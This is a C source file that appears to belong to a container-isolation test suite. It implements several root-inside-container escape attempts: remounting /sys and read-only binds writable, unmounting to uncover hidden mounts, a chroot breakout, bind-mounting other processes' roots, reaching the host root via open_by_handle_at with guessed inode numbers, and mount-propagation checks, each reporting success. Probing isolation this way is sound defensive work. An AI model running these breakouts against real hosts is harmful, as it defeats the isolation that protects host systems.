/* SPDX-License-Identifier: BSD-3-Clause
 * What root inside may try with mounts: uncover, bind, make writable, let appear outside.
 */
#include "attack.h"
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef AT_RECURSIVE
#define AT_RECURSIVE 0x8000
#endif

#define MOST 400
static char points[MOST][512];

/* Mount points at or below a place, in the order in which they were mounted. */
static int list_points(const char *place)
{
    static char line[4096];
    size_t length = strlen(place);
    int count = 0;
    FILE *file = fopen("/proc/self/mountinfo", "re");
    while (file && count < MOST && fgets(line, sizeof line, file))
        if (sscanf(line, "%*s %*s %*s %*s %511s", points[count]) == 1 && !strncmp(points[count], place, length))
            count++;
    if (file)
        fclose(file);
    return count;
}

static void make_writable(const char *place)
{
    struct { unsigned long set, clear, propagation, namespace; } change = {0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};
    syscall(442 /* mount_setattr */, AT_FDCWD, place, AT_RECURSIVE, &change, sizeof change);
    int count = list_points(place);
    for (int i = 0; i < count; i++)
        for (int flags = 0; flags < 4; flags++)
            if (!mount(NULL, points[i], NULL, MS_REMOUNT | MS_BIND | (flags & 1 ? MS_NOSUID : 0) | (flags & 2 ? MS_NODEV : 0), NULL))
                break;
}

void attack_sys(void)
{
    struct statvfs status;
    if (statvfs("/sys", &status))
        return;
    int count = list_points("/sys");
    for (int i = 0; i < count; i++)
        if (!statvfs(points[i], &status) && !(status.f_flag & ST_RDONLY)) {
            report("sys", points[i], "mounted writable");
            return;
        }
    make_writable("/sys");
    if (!statvfs("/sys", &status) && !(status.f_flag & ST_RDONLY))
        report("sys remounted", "/sys", "mounted writable");
}

static void write_marker(const char *attack, const char *folder)
{
    char path[600];
    snprintf(path, sizeof path, "%s/marker-of-the-attack", folder);
    int file = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0666);
    if (file >= 0)
        report(attack, path, "written"); /* counts when it is seen from outside */
    close(file);
}

void attack_readonly_bind(void)
{
    const char *folder = given("readonly");
    if (!folder)
        return;
    write_marker("readonly bind", folder);
    unshare(CLONE_NEWNS);
    make_writable(folder);
    write_marker("readonly bind remounted", folder);
}

/* The image that we run from, where no layer lies above it. */
void attack_image(void)
{
    static const char *const places[] = {"/", "/bin", "/etc", "/.singularity.d"};
    for (int round = 0; round < 2; round++) {
        for (int i = 0; i < 4; i++)
            write_marker("image", places[i]);
        unshare(CLONE_NEWNS);
        make_writable("/");
    }
}

void attack_node(void)
{
    const char *folder = given("node");
    if (!folder || access(folder, F_OK))
        return;
    write_marker("node", folder);
    unshare(CLONE_NEWNS);
    make_writable(folder);
    umount2(folder, MNT_DETACH);
    write_marker("node remounted", folder);
}

/* Unmount all there is, again and again: what was covered shows. */
void attack_covered(void)
{
    if (unshare(CLONE_NEWNS))
        return;
    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
    int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
    for (int round = 0; round < 3; round++) {
        int count = list_points("/");
        for (int i = count - 1; i >= 0; i--)
            if (!umount2(points[i], MNT_DETACH))
                report_reach("covered", points[i], root);
    }
    if (!umount2("/", MNT_DETACH) || !chroot("..")) {
        int now = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
        report_reach("covered", "the root", now);
    }
}

/* Out of a root by a directory that lies outside of the next one. */
void attack_chroot(void)
{
    int outside = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (chroot("/proc") || fchdir(outside))
        return;
    for (int i = 0; i < 30 && !chdir(".."); i++)
        report_reach("covered", "chroot", AT_FDCWD);
}

void attack_bind_of_root(void)
{
    char source[64];
    if (unshare(CLONE_NEWNS) || mount("tmpfs", "/sys", "tmpfs", 0, NULL))
        return;
    static const char *const names[] = {"root", "cwd"};
    for (pid_t pid = 1; pid < 64; pid++)
        for (int i = 0; i < 2; i++) {
            snprintf(source, sizeof source, "/proc/%d/%s", pid, names[i]);
            if (mount(source, "/sys", NULL, MS_BIND | MS_REC, NULL))
                continue;
            int directory = open("/sys", O_PATH | O_DIRECTORY | O_CLOEXEC);
            report_reach("bind of a root", source, directory);
            close(directory);
            umount2("/sys", MNT_DETACH);
        }
}

/* The root of the host's file system by its number: inode 2 of ext4, 128 of XFS, 256 of Btrfs. */
void attack_handles(void)
{
    static const unsigned int roots[] = {2, 128, 64, 96, 256};
    static const char *const files[] = {"/etc/hosts", "/etc/resolv.conf", "/etc/localtime", "/data", "/tmp", "/"};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        int file = open(files[i], O_RDONLY | O_CLOEXEC);
        for (size_t k = 0; file >= 0 && k < sizeof roots / sizeof *roots; k++) {
            struct { struct file_handle head; unsigned int number[2]; } handle = {{8, 1}, {roots[k], 0}};
            int directory = open_by_handle_at(file, &handle.head, O_PATH | O_DIRECTORY);
            if (directory >= 0)
                report_reach("handle", files[i], directory);
            close(directory);
        }
        close(file);
    }
}

/* In the container's own mount namespace: what is mounted here must not be seen outside. */
void attack_propagation(void)
{
    const char *place = given("mountpoint");
    if (place && !mount("tmpfs", place, "tmpfs", 0, NULL))
        write_marker("propagation", place);
}
